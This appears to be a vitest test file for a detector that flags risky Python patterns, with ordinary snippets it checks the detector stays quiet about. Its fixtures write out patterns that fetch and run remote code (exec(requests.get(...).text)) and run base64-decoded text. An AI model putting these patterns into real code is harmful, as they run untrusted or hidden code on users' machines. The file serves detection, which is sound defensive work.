import { describe, expect, it } from 'vitest';
import { pythonCode } from '../../../utils/inspect/python/python-code.ts';
import { seenBy } from '../sightings-of.ts';
import { longTraps, traps } from './python-traps.ts';

const kindsIn = (program: string | Record<string, string>) =>
  [...new Set(seenBy(pythonCode, typeof program === 'string' ? { 'lib/quotes.py': program } : program).map((seen) => seen.split(' ')[0]))];

/** Near to what traps do, and ordinary. */
const ordinary: readonly (readonly [string, string | Record<string, string>])[] = [
  ['a token that is decoded', `import base64, json\ndef claims(token):\n    return json.loads(base64.urlsafe_b64decode(token.split('.')[1] + '=='))\n`],
  ['a cache of objects in a table', `import base64, pickle\ndef read(row):\n    return pickle.loads(base64.b64decode(row.value.encode()))\n`],
  ['a model of the project', `import joblib\nmodel = joblib.load('models/price.joblib')\n`],
  ['settings by name', `import importlib, os\nsettings = importlib.import_module(os.environ.get('SETTINGS', 'app.settings'))\n`],
  ['a formula of the project', `RULES = {'sum': 'a + b'}\ndef apply(name, a, b):\n    return eval(RULES[name], {'a': a, 'b': b})\n`],
  ['a checksum with exclusive or', `def checksum(data):\n    total = 0\n    for b in data:\n        total ^= b\n    return total\nprint(checksum(b'abc'))\n`],
  ['a word that is turned', `def isPalindrome(word):\n    return word == word[::-1]\n`],
  ['letters by number', `import random\nalphabet = 'abc'\nprint(''.join(alphabet[random.randrange(3)] for _ in range(8)))\n`],
  ['workers', `from concurrent.futures import ThreadPoolExecutor\nimport requests\ndef load(url):\n    return requests.get(url).json()\nwith ThreadPoolExecutor() as pool:\n    rows = list(pool.map(load, ['https://a.example']))\n`],
  ['a queue of answers', `import queue, requests\nq = queue.Queue()\nq.put(requests.get('https://a.example').json())\nprint(q.get()['a'])\n`],
  ['an event that is shown', `import socketio\nsio = socketio.Client()\n@sio.on('quote')\ndef quote(data):\n    print(data['price'])\n`],
  ['an archive of samples', `import zipfile, requests, csv\nopen('s.zip', 'wb').write(requests.get('https://a.example/s.zip').content)\nzipfile.ZipFile('s.zip').extractall('data')\nrows = list(csv.reader(open('data/a.csv')))\n`],
  ['memory that is moved', `import ctypes, socket\ns = socket.socket()\nctypes.windll.kernel32.RtlMoveMemory(D, s.recv(9), 9)\n`],
  ['a notebook', { 'a.ipynb': JSON.stringify({ cells: [{ cell_type: 'code', source: ['%matplotlib inline\n', 'import pandas as pd\n', "pd.read_csv('a.csv').head()"] }, { cell_type: 'code', source: '%%html\n<b>exec(requests.get(x).text)</b>' }] }) }],
];

describe('python-code', () => {
  it.each([...traps, ...longTraps])('sees %s', (_, kind, program) => {
    expect(kindsIn(program)).toContain(kind);
  });

  it.each(ordinary)('is quiet about %s', (_, program) => {
    expect(kindsIn(program)).toEqual([]);
  });

  it('tells what a text does at the line that runs the text', () => {
    expect(seenBy(pythonCode, { 'a.py': `x = 1\n\nexec("import requests\\n\\n\\n\\nexec(requests.get('https://a.example').text)")\n` })).toEqual(['runs-fetched-text a.py:3']);
  });

  it('tells the line of a cell in the file of a notebook', () => {
    const notebook = JSON.stringify({ cells: [{ cell_type: 'code', source: ['import requests\n', "exec(requests.get('https://a.example').text)"] }] }, null, 1);
    expect(seenBy(pythonCode, { 'a.ipynb': notebook })).toEqual([`runs-fetched-text a.ipynb:${notebook.split('\n').findIndex((line) => line.includes('exec(')) + 1}`]);
  });

  it('sees an encoded text however long it is', () => {
    expect(seenBy(pythonCode, { 'a.py': `import base64\nexec(base64.b64decode('${'QUJD'.repeat(200_000)}'))\n` })).toEqual(['runs-decoded-text a.py:2']);
  });

  it('looks line by line at what is too long to be followed', () => {
    expect(seenBy(pythonCode, { 'a.py': `${'value = [1, 2, 3]\n'.repeat(30_000)}exec(base64.b64decode(DATA))\n` })).toEqual(['runs-decoded-text a.py:30001']);
  });
});
